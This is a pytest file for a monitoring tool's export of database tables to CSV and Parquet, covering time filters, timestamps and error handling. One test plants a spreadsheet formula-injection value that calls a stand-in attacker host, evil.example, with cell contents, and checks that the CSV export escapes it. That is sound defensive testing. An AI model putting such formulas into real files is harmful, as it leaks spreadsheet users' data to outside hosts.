"""Tables as files: whole, of a time, and readable by what people read files with."""

from __future__ import annotations

import csv
import json
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
import traffic
from click.testing import CliRunner
from pyarrow import parquet

from deploy import recorder
from infra.db import transaction
from infra.errors import UsageError
from infra.settings import Settings
from monitoring import records, tables, windows

PROFILE = traffic.profile([], [])
PAIRS = [("f(x)", 'Return x, "quoted".\nTwice; ünï'), ("g(y)", "<b>,\t'")]


@pytest.fixture
def events(database: Settings) -> list[str]:
    with transaction() as conn:
        traffic.register(conn, "m", 1, PROFILE, settings={})
        kept = [
            traffic.event("m", 1, PROFILE, pair, at=traffic.minutes_ago(minutes), keep_text=True)
            for pair, minutes in zip(PAIRS, (90, 5), strict=True)
        ]
        recorder.store(conn, uuid.uuid4(), kept)
        windows.close(conn)
    return [event["id"] for event in kept]


def write(name: str, file: Path, *more: str) -> int:
    done = CliRunner().invoke(records.table, [name, str(file), "--json", *more], catch_exceptions=False)
    assert done.exit_code == 0
    rows: int = json.loads(done.stdout)["rows"]
    return rows


def test_requests_as_csv_and_parquet(events: list[str], tmp_path: Path) -> None:
    assert write("requests", tmp_path / "all.csv") == 2
    with (tmp_path / "all.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == events
    assert [row["answer"] for row in rows] == [answer for _, answer in PAIRS]
    assert write("requests", tmp_path / "new" / "late.parquet", "--since", "1h") == 1
    [late] = parquet.read_table(tmp_path / "new" / "late.parquet").to_pylist()
    assert (late["id"], late["answer"], late["status"], late["error"]) == (events[1], PAIRS[1][1], 200, None)
    assert "g(y)" in json.loads(late["messages"])[-1]["content"]
    assert late["at"].utcoffset() == timedelta(0)
    assert len(late["features"]) > 10
    until = traffic.minutes_ago(60).isoformat()
    assert write("requests", tmp_path / "early.csv", "--until", until) == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == ["all.csv", "early.csv", "new"]


def test_what_clients_wrote_runs_in_no_spreadsheet(events: list[str], tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    with transaction() as conn:
        conn.execute("update request_event set client_request_id = %s, cost_usd = -1", (formula,))
    write("requests", tmp_path / "all.csv")
    with (tmp_path / "all.csv").open(newline="") as file:
        row = next(csv.DictReader(file))
    assert (row["client_request_id"], row["cost_usd"]) == (f"'{formula}", "-1"), "and numbers stay numbers"
    write("requests", tmp_path / "all.parquet")
    assert parquet.read_table(tmp_path / "all.parquet").to_pylist()[0]["client_request_id"] == formula


@pytest.mark.usefixtures("events")
def test_every_table_is_written_both_ways(tmp_path: Path) -> None:
    for name in tables.TABLES:
        counts = {write(name, tmp_path / f"{name}.{ending}") for ending in ("csv", "parquet")}
        assert len(counts) == 1, name
        assert parquet.read_table(tmp_path / f"{name}.parquet").num_rows == counts.pop()


@pytest.mark.usefixtures("events")
def test_what_is_wrong_is_said_and_nothing_is_left(tmp_path: Path) -> None:
    (tmp_path / "there.csv").write_text("mine")
    for name, file, said in (
        ("api_key", "x.csv", "There is no table 'api_key'"),
        ("requests", "x.xlsx", "ends in neither .csv nor .parquet"),
        ("requests", "there.csv", "exists already"),
    ):
        with transaction() as conn, pytest.raises(UsageError, match=said):
            tables.write(conn, name, tmp_path / file)
    assert [path.name for path in tmp_path.iterdir()] == ["there.csv"]
    assert (tmp_path / "there.csv").read_text() == "mine"
